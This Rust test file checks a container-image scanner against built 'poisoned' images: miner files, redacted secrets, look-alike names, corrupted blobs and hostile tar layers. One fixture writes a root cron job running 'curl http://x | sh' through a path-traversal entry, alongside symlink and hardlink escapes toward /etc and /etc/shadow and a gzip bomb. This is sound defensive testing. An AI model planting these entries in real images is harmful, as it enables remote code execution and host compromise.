//! End-to-end scans of images built by the test: an OCI layout, the same image as an OCI archive and as a
//! `docker save` archive, hostile layers for each guard, and a directory scan.

use crate::common;

use common::*;
use mamoru_scan::cli::{build_scanner, CommonArgs};
use mamoru_scan::lookalike::LookAlikeConfig;
use mamoru_scan::mamoru_oci::{Image, Limits, OpenOptions};
use mamoru_scan::{Category, Finding, Report, ScanOptions, Scanner, Severity};
use std::sync::Arc;

fn common_args() -> CommonArgs {
    CommonArgs {
        format: "json".to_string(),
        fail_on: None,
        output: None,
        yara_rules: Vec::new(),
        ioc_hashes: Vec::new(),
        secret_rules: Vec::new(),
        show_secrets: false,
        skip: Vec::new(),
        threads: 2,
        db: None,
        vex: Vec::new(),
    }
}

fn scan(target: &str, names: &[&str]) -> Report {
    let mut image = Image::open(target, &OpenOptions::default()).expect("image opens");
    image.names.extend(names.iter().map(|s| s.to_string()));
    let look = LookAlikeConfig::from_official_list(mamoru_scan::cli::BUNDLED_OFFICIAL_IMAGES);
    let scanner = build_scanner(&common_args(), Some(look)).expect("scanner");
    scanner.scan_image(&image).expect("scan").report
}

fn find<'a>(report: &'a Report, rule: &str, path: Option<&str>) -> &'a Finding {
    report
        .findings
        .iter()
        .find(|f| f.rule == rule && (path.is_none() || f.location.path.as_deref() == path))
        .unwrap_or_else(|| {
            panic!(
                "no {rule} at {path:?}; findings: {:#?}",
                report
                    .findings
                    .iter()
                    .map(|f| (&f.rule, f.location.display()))
                    .collect::<Vec<_>>()
            )
        })
}

fn check_poisoned(report: &Report) {
    // The miner and its config live in layer 1 and are deleted by layer 2: still found, with their layer.
    let cfg = find(report, "miner:xmrig-config", Some("opt/.cache/config.json"));
    assert_eq!(cfg.location.layer, Some(1));
    assert_eq!(cfg.severity, Severity::Critical);
    assert_eq!(cfg.in_final_image, Some(false));
    assert!(cfg.evidence.as_deref().is_some_and(|e| e.contains("supportxmr")));
    let bin = find(report, "miner:binary-strings", Some("opt/.cache/xmrig"));
    assert_eq!((bin.location.layer, bin.in_final_image), (Some(1), Some(false)));
    find(report, "miner:known-name", Some("opt/.cache/xmrig"));
    let dao = find(report, "miner:fetch-and-run", Some("app/dao.py"));
    assert_eq!(dao.in_final_image, Some(true));
    // Secrets: redacted, with line numbers.
    let pat = find(report, "secret:github-pat", Some("app/.env"));
    assert_eq!(pat.location.line, Some(2));
    assert_eq!(pat.evidence.as_deref(), Some("ghp_*****"));
    find(report, "secret:terraform-state", Some("infra/prod.tfstate"));
    find(report, "secret:terraform-state-secret", Some("infra/prod.tfstate"));
    // Image config.
    find(report, "config:root-user", None);
    find(report, "config:dangerous-port", None);
    find(report, "config:docker-socket", None);
    let pipe = find(report, "config:pipe-to-shell", None);
    assert_eq!(pipe.location.field.as_deref(), Some("history[1].created_by"));
    let env = report
        .findings
        .iter()
        .find(|f| f.category == Category::Secret && f.location.field.as_deref() == Some("config.Env[1]"))
        .expect("secret in ENV");
    assert!(
        !env.evidence.as_deref().unwrap_or("").contains("wJalrXUtnFEMI/K7MDENG"),
        "redacted"
    );
    // Nothing from the clean base layer.
    assert!(!report
        .findings
        .iter()
        .any(|f| f.location.layer == Some(0) && f.category != Category::Guard));
    let image = report.image.as_ref().expect("image report");
    assert_eq!(image.layers.len(), 3);
    assert_eq!(image.layers[1].compression.as_deref(), Some("zstd"));
    assert_eq!(image.layers[2].compression.as_deref(), Some("none"));
}

#[test]
fn oci_layout_poisoned_image() {
    let dir = tempfile::tempdir().unwrap();
    poisoned_image().write_layout(dir.path(), "docker.io/c43602f9cc95/openjdk:latest");
    let report = scan(dir.path().to_str().unwrap(), &[]);
    check_poisoned(&report);
    let look = find(&report, "look-alike:official-name", None);
    assert_eq!(
        look.location.field.as_deref(),
        Some("annotation io.containerd.image.name")
    );
    assert_eq!(report.image.as_ref().unwrap().platform.as_deref(), Some("linux/amd64"));
    assert!(report.count_at_least(Severity::Critical) >= 2);
}

#[test]
fn oci_archive_and_docker_save_give_the_same_findings() {
    let dir = tempfile::tempdir().unwrap();
    let layout = dir.path().join("layout");
    let built = poisoned_image();
    built.write_layout(&layout, "docker.io/700888880a0/golang:1.21");
    let archive = dir.path().join("image.oci.tar");
    std::fs::write(&archive, tar_dir(&layout)).unwrap();
    let report = scan(archive.to_str().unwrap(), &[]);
    check_poisoned(&report);
    find(&report, "look-alike:official-name", None);

    let saved = dir.path().join("saved.tar");
    built.write_docker_save(&saved, "someone/0penjdk:8");
    let report = scan(saved.to_str().unwrap(), &[]);
    check_poisoned(&report);
    let look = find(&report, "look-alike:similar-name", None);
    assert!(look.why.contains("openjdk"), "{}", look.why);
}

#[test]
fn hostile_layers_become_guard_findings() {
    let busybox = busybox_layer();
    let hostile = plain_layer(&[
        file(
            "../../../etc/cron.d/evil",
            b"* * * * * root sh -c 'curl http://x | sh'\n",
            0o644,
        ),
        file("/etc/abs", b"absolute\n", 0o644),
        special("lnk", b'2', "../../../../../../etc"),
        file("lnk/passwd", b"owned\n", 0o644),
        special("hard", b'1', "../../etc/shadow"),
        special("dev/kmem", b'3', ""),
        TarEntry {
            size_override: None,
            ..file("big.bin", &vec![b'A'; 3 << 20], 0o644)
        },
    ]);
    // A gzip bomb: 64 MiB of zeros in ~64 KiB.
    let bomb = gz_layer(&[file("zeros", &vec![0u8; 64 << 20], 0o644)]);
    let built = BuiltImage::new(vec![busybox, hostile, bomb], serde_json::json!({"User": "app"}), vec![]);
    let dir = tempfile::tempdir().unwrap();
    built.write_layout(dir.path(), "registry.example.com/team/app:1");
    let image = Image::open(dir.path().to_str().unwrap(), &OpenOptions::default()).unwrap();
    let limits = Limits {
        max_entry_bytes: 1 << 20,
        max_scan_bytes: 1 << 20,
        ratio_floor_bytes: 8 << 20,
        max_ratio: 100,
        ..Limits::default()
    };
    let mut scanner = Scanner::new(ScanOptions {
        limits,
        threads: 2,
        ..ScanOptions::default()
    });
    scanner.add_file_analyzer(Arc::new(mamoru_scan::malware::miner::MinerAnalyzer::new().unwrap()));
    let report = scanner
        .scan_image(&image)
        .expect("hostile content is findings, not errors")
        .report;
    for rule in [
        "guard:path-traversal",
        "guard:absolute-path",
        "guard:symlink-escape",
        "guard:write-through-symlink",
        "guard:hardlink-escape",
        "guard:device-file",
        "guard:giant-entry",
        "guard:decompression-bomb",
    ] {
        let f = find(&report, rule, None);
        assert_eq!(f.category, Category::Guard);
        assert!(f.location.layer.is_some());
    }
    assert_eq!(find(&report, "guard:decompression-bomb", None).location.layer, Some(2));
    // The traversal entry's content is still analyzed, under its clamped path.
    find(&report, "miner:pipe-to-shell", Some("etc/cron.d/evil"));
    let layers = &report.image.as_ref().unwrap().layers;
    assert!(layers[2].truncated && layers[2].uncompressed_bytes < 64 << 20);
}

#[test]
fn corrupted_blob_is_reported_not_trusted() {
    let built = poisoned_image();
    let dir = tempfile::tempdir().unwrap();
    built.write_layout(dir.path(), "x/y:1");
    // Flip a byte in the content of app/README in the plain layer 2 (headers intact): only its digest gives it away.
    let d = digest(&built.layers[2].blob);
    let path = dir.path().join("blobs/sha256").join(d.trim_start_matches("sha256:"));
    let mut data = std::fs::read(&path).unwrap();
    data[1540] ^= 0xff;
    std::fs::write(&path, data).unwrap();
    let report = scan(dir.path().to_str().unwrap(), &[]);
    let f = find(&report, "guard:corrupt-archive", None);
    assert_eq!(f.location.layer, Some(2));
    assert!(f.why.contains("hashes to"), "{}", f.why);
}

#[test]
fn filesystem_scan_and_fail_on() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("opt")).unwrap();
    std::fs::write(dir.path().join("opt/config.json"), MINER_CONFIG).unwrap();
    std::fs::write(dir.path().join("ok.txt"), b"nothing here\n").unwrap();
    let scanner = build_scanner(&common_args(), None).unwrap();
    let report = scanner.scan_dir(dir.path()).unwrap();
    let f = find(&report, "miner:xmrig-config", Some("opt/config.json"));
    assert_eq!(f.location.layer, None);
    assert_eq!(report.stats.files_seen, 2);
    let mut out = Vec::new();
    mamoru_scan::output::render(&report, mamoru_scan::output::Format::Sarif, &mut out).unwrap();
    let sarif: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "miner:xmrig-config");
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "opt/config.json"
    );
    let mut table = Vec::new();
    mamoru_scan::output::render(&report, mamoru_scan::output::Format::Table, &mut table).unwrap();
    assert!(String::from_utf8(table).unwrap().contains("CRITICAL"));
}
